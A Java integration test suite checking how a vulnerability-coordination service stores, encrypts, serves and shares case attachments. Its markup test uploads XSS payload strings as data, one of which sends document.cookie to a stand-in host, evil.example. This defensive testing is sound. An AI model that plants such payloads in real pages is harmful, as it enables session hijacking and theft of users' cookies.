package org.kakehashi.vulns;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.security.MessageDigest;
import java.util.ArrayList;
import java.util.Base64;
import java.util.HexFormat;
import java.util.List;
import java.util.Random;
import java.util.UUID;

import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.kakehashi.identity.OrganisationType;
import org.kakehashi.identity.Role;
import org.kakehashi.identity.internal.ApiTokens;
import org.kakehashi.support.Fixtures;
import org.kakehashi.support.IntegrationTest;
import org.kakehashi.vulns.CoordinationWorld.Multipart;
import org.kakehashi.vulns.CoordinationWorld.Party;
import org.kakehashi.vulns.CoordinationWorld.Raw;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.jdbc.core.simple.JdbcClient;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

/**
 * A case's files against the real database: stored encrypted and bound to their row, handed out byte for byte as a
 * download no browser renders, refused whole when too large, and shown to vendors only once a coordinator shares
 * them. The test configuration sets {@code kakehashi.vulns.max-attachment-size} to 256 KB.
 */
class AttachmentTests extends IntegrationTest {

	static final int MAX = 256 * 1024;

	@Autowired
	Fixtures fixtures;

	@Autowired
	ApiTokens tokens;

	@Autowired
	JdbcClient jdbc;

	@Autowired
	JsonMapper json;

	CoordinationWorld world;
	Party coordinator;
	Party finder;
	Party psirt;
	Party outsider;
	String caseId;

	@BeforeEach
	void world() {
		world = new CoordinationWorld("http://localhost:" + port, fixtures, tokens, json, MAIL);
		coordinator = world.party(fixtures.organisation(OrganisationType.COORDINATOR), Role.COORDINATOR);
		finder = world.party(fixtures.organisation(OrganisationType.OPERATOR, "RAILWAY"), Role.REPORTER);
		psirt = world.party(fixtures.organisation(OrganisationType.VENDOR), Role.ANALYST);
		outsider = world.party(fixtures.organisation(OrganisationType.OPERATOR, "RAILWAY"), Role.REPORTER);
		caseId = world.accepted(finder, coordinator, Fixtures.unique("添付"), "説明");
	}

	@Test
	void aFileIsStoredEncryptedAndComesBackByteForByteAsADownload() throws Exception {
		var png = bytes(new byte[] { (byte) 0x89, 'P', 'N', 'G', '\r', '\n', 0x1a, '\n' }, 20_000);
		var stored = attach(finder, "../../screenshots/画面.png", png);
		var file = stored.get(0);
		var id = file.get("id").asString();
		assertThat(file.get("fileName").asString()).isEqualTo("画面.png");
		assertThat(file.get("contentType").asString()).isEqualTo("image/png");
		assertThat(file.get("size").asLong()).isEqualTo(png.length);
		assertThat(file.get("sha256").asString()).isEqualTo(hex(png));
		assertThat(file.has("messageId")).as("a report file belongs to no message").isFalse();

		// At rest: not the plain bytes (nor any stretch of them), a 96-bit nonce, the GCM tag on top, the key named.
		var row = jdbc.sql("select content, nonce, key_id, sha256 from vuln_attachment where id = :id")
			.param("id", UUID.fromString(id)).query((rs, n) -> new Object[] { rs.getBytes("content"), rs.getBytes("nonce"),
					rs.getString("key_id"), rs.getString("sha256") }).single();
		var content = (byte[]) row[0];
		assertThat(content).isNotEqualTo(png).hasSize(png.length + 16);
		assertThat(indexOf(content, java.util.Arrays.copyOfRange(png, 1000, 1032))).isEqualTo(-1);
		assertThat((byte[]) row[1]).hasSize(12);
		assertThat((String) row[2]).hasSize(16);
		assertThat((String) row[3]).isEqualTo(hex(png));
		// The same bytes again: another nonce, another ciphertext. The answer lists what this upload stored, not the
		// report's earlier files.
		var answer = attach(finder, "again.png", png);
		assertThat(answer).singleElement().satisfies(f -> assertThat(f.get("fileName").asString()).isEqualTo("again.png"));
		var again = answer.get(0).get("id").asString();
		assertThat(jdbc.sql("select content from vuln_attachment where id = :id").param("id", UUID.fromString(again))
			.query(byte[].class).single()).isNotEqualTo(content);

		var download = download(finder, id);
		assertThat(download.status()).isEqualTo(200);
		assertThat(download.body()).isEqualTo(png);
		assertThat(download.header("Digest")).isEqualTo("sha-256=" + Base64.getEncoder().encodeToString(sha256(png)));
		assertThat(download.header("Content-Disposition")).startsWith("attachment").contains(".png");
		assertThat(download.header("X-Content-Type-Options")).isEqualTo("nosniff");
		assertThat(download.header("Content-Type")).isEqualTo("image/png");
		assertThat(download(coordinator, id).body()).isEqualTo(png);
		assertThat(download(outsider, id).status()).isEqualTo(404);
		assertThat(download(finder, UUID.randomUUID().toString()).status()).isEqualTo(404);
		assertThat(jdbc.sql("select count(*) from audit_log where target_id = :case and action = 'vulns.attachment.downloaded'")
			.param("case", caseId).query(Long.class).single()).isEqualTo(2);
	}

	@Test
	void markupIsNeverServedAsSomethingABrowserWouldRender() {
		var pages = List.of(
				"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>",
				"  \n<html><img src=x onerror=alert(1)></html>",
				"<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>",
				"PoC: <script>fetch('//evil.example/'+document.cookie)</script>");
		for (var page : pages) {
			var plain = page.getBytes(StandardCharsets.UTF_8);
			var file = attach(finder, "poc.html", plain).get(0);
			assertThat(file.get("contentType").asString()).as(page).isEqualTo("application/octet-stream");
			var download = download(finder, file.get("id").asString());
			assertThat(download.body()).isEqualTo(plain);
			assertThat(download.header("Content-Type")).as(page).isEqualTo("application/octet-stream");
			assertThat(download.header("Content-Disposition")).startsWith("attachment");
			assertThat(download.header("X-Content-Type-Options")).isEqualTo("nosniff");
		}
		// Plain notes stay readable text.
		var note = attach(finder, "notes.txt", "再現手順: 1 < 2 のとき 3 > 2 を送る".getBytes(StandardCharsets.UTF_8)).get(0);
		assertThat(note.get("contentType").asString()).isEqualTo("text/plain");
	}

	@Test
	void oversizeEmptyOrTooManyFilesAreRefusedWholeWithNothingStored() {
		var before = files();
		var messages = messages();
		var tooLarge = world.multipart(finder.token(), attachments(), new Multipart().file("files", "big.bin", new byte[MAX + 1]));
		assertThat(tooLarge.status()).isEqualTo(413);
		assertThat(tooLarge.text()).contains("\"field\":\"files\"");
		var secondTooLarge = world.multipart(finder.token(), attachments(), new Multipart()
			.file("files", "small.txt", "ok".getBytes(StandardCharsets.UTF_8)).file("files", "big.bin", new byte[MAX + 1]));
		assertThat(secondTooLarge.status()).isEqualTo(413);
		var empty = world.multipart(finder.token(), attachments(), new Multipart().file("files", "empty.txt", new byte[0]));
		assertThat(empty.status()).isEqualTo(400);
		assertThat(empty.text()).contains("\"field\":\"files\"");
		var none = world.multipart(finder.token(), attachments(), new Multipart().field("note", "no file"));
		assertThat(none.status()).isEqualTo(400);
		var eleven = new Multipart();
		for (int i = 0; i < 11; i++) {
			eleven.file("files", "f" + i + ".txt", ("file " + i).getBytes(StandardCharsets.UTF_8));
		}
		assertThat(world.multipart(finder.token(), attachments(), eleven).status()).isEqualTo(400);
		// A message whose file is too large is not posted either.
		var message = world.multipart(coordinator.token(), "/api/v1/vuln-cases/" + caseId + "/messages", new Multipart()
			.field("channel", "FINDER").field("body", "大きすぎる添付").file("files", "big.bin", new byte[MAX + 1]));
		assertThat(message.status()).isEqualTo(413);
		assertThat(files()).isEqualTo(before);
		assertThat(messages()).isEqualTo(messages);

		// Exactly the limit is fine.
		assertThat(attach(finder, "limit.bin", new byte[MAX]).get(0).get("size").asLong()).isEqualTo(MAX);
		// Only the finder and the coordinators add files to the report.
		assertThat(world.multipart(outsider.token(), attachments(), new Multipart().file("files", "x.txt", new byte[] { 'x' }))
			.status()).isEqualTo(404);
		assertThat(files()).isEqualTo(before + 1);
	}

	@Test
	void reportFilesReachVendorsOnlyOnceACoordinatorSharesThem() {
		var vendor = world.vendor(coordinator, Fixtures.unique("Shared Corp"), psirt.account().organisationId());
		world.invite(coordinator, caseId, vendor, "SharedBox");
		var poc = "exploit.py の中身".getBytes(StandardCharsets.UTF_8);
		var file = attach(finder, "exploit.py", poc).get(0).get("id").asString();
		var sharing = "/api/v1/vuln-cases/" + caseId + "/attachments/" + file + "/sharing";

		assertThat(listed(psirt)).doesNotContain(file);
		assertThat(download(psirt, file).status()).isEqualTo(404);
		assertThat(listed(finder)).contains(file);

		// Neither the vendor nor the finder decides what vendors see.
		assertThat(psirt.api().send("PUT", sharing, "{\"sharedWithVendors\":true}").status()).isEqualTo(403);
		assertThat(finder.api().send("PUT", sharing, "{\"sharedWithVendors\":true}").status()).isEqualTo(403);
		assertThat(outsider.api().send("PUT", sharing, "{\"sharedWithVendors\":true}").status()).isEqualTo(404);
		assertThat(coordinator.api().send("PUT", sharing, "{}").status()).isEqualTo(400);
		assertThat(download(psirt, file).status()).isEqualTo(404);

		var shared = coordinator.api().send("PUT", sharing, "{\"sharedWithVendors\":true}");
		assertThat(shared.status()).isEqualTo(200);
		assertThat(world.read(shared.body()).get("sharedWithVendors").asBoolean()).isTrue();
		assertThat(listed(psirt)).contains(file);
		assertThat(download(psirt, file).body()).isEqualTo(poc);
		assertThat(download(outsider, file).status()).isEqualTo(404);

		assertThat(coordinator.api().send("PUT", sharing, "{\"sharedWithVendors\":false}").status()).isEqualTo(200);
		assertThat(listed(psirt)).doesNotContain(file);
		assertThat(download(psirt, file).status()).isEqualTo(404);

		// A message's file follows its message, not the report's sharing.
		var posted = world.multipart(coordinator.token(), "/api/v1/vuln-cases/" + caseId + "/messages", new Multipart()
			.field("channel", "FINDER").field("body", "発見者へ").file("files", "for-finder.txt", new byte[] { 'f' }));
		var messageFile = world.read(posted.text()).get("files").get(0).get("id").asString();
		assertThat(coordinator.api().send("PUT", "/api/v1/vuln-cases/" + caseId + "/attachments/" + messageFile + "/sharing",
				"{\"sharedWithVendors\":true}").status()).isEqualTo(404);
		assertThat(download(psirt, messageFile).status()).isEqualTo(404);
	}

	@Test
	void aCiphertextCopiedOntoAnotherRowOrAlteredDoesNotOpen() {
		var secret = "秘密の PoC".getBytes(StandardCharsets.UTF_8);
		var original = attach(finder, "secret.txt", secret).get(0).get("id").asString();
		var decoy = attach(finder, "decoy.txt", "おとり".getBytes(StandardCharsets.UTF_8)).get(0).get("id").asString();
		jdbc.sql("""
				update vuln_attachment d set nonce = o.nonce, content = o.content, size = o.size, sha256 = o.sha256
				  from vuln_attachment o where o.id = :original and d.id = :decoy
				""").param("original", UUID.fromString(original)).param("decoy", UUID.fromString(decoy)).update();
		var copied = download(finder, decoy);
		assertThat(copied.status()).isEqualTo(500);
		assertThat(copied.text()).doesNotContain("秘密");
		assertThat(download(finder, original).body()).isEqualTo(secret);

		jdbc.sql("update vuln_attachment set content = set_byte(content, 2, get_byte(content, 2) # 1) where id = :id")
			.param("id", UUID.fromString(original)).update();
		var altered = download(finder, original);
		assertThat(altered.status()).isEqualTo(500);
		assertThat(altered.text()).doesNotContain("秘密");
	}

	private List<JsonNode> attach(Party party, String fileName, byte[] content) {
		var stored = world.multipart(party.token(), attachments(), new Multipart().file("files", fileName, content));
		assertThat(stored.status()).as(stored.text()).isEqualTo(201);
		var out = new ArrayList<JsonNode>();
		world.read(stored.text()).forEach(out::add);
		return out;
	}

	private List<String> listed(Party party) {
		var response = party.api().get(attachments());
		assertThat(response.status()).isEqualTo(200);
		var ids = new ArrayList<String>();
		world.read(response.body()).forEach(f -> ids.add(f.get("id").asString()));
		return ids;
	}

	private Raw download(Party party, String fileId) {
		return world.download(party.token(), attachments() + "/" + fileId);
	}

	private String attachments() {
		return "/api/v1/vuln-cases/" + caseId + "/attachments";
	}

	private long files() {
		return jdbc.sql("select count(*) from vuln_attachment where case_id = :case").param("case", UUID.fromString(caseId))
			.query(Long.class).single();
	}

	private long messages() {
		return jdbc.sql("select count(*) from vuln_case_message where case_id = :case").param("case", UUID.fromString(caseId))
			.query(Long.class).single();
	}

	private static byte[] bytes(byte[] prefix, int length) {
		var out = new byte[length];
		new Random(length).nextBytes(out);
		System.arraycopy(prefix, 0, out, 0, prefix.length);
		return out;
	}

	private static int indexOf(byte[] haystack, byte[] needle) {
		outer:
		for (int i = 0; i <= haystack.length - needle.length; i++) {
			for (int j = 0; j < needle.length; j++) {
				if (haystack[i + j] != needle[j]) {
					continue outer;
				}
			}
			return i;
		}
		return -1;
	}

	private static byte[] sha256(byte[] bytes) {
		try {
			return MessageDigest.getInstance("SHA-256").digest(bytes);
		}
		catch (java.security.NoSuchAlgorithmException e) {
			throw new IllegalStateException(e);
		}
	}

	private static String hex(byte[] bytes) {
		return HexFormat.of().formatHex(sha256(bytes));
	}
}
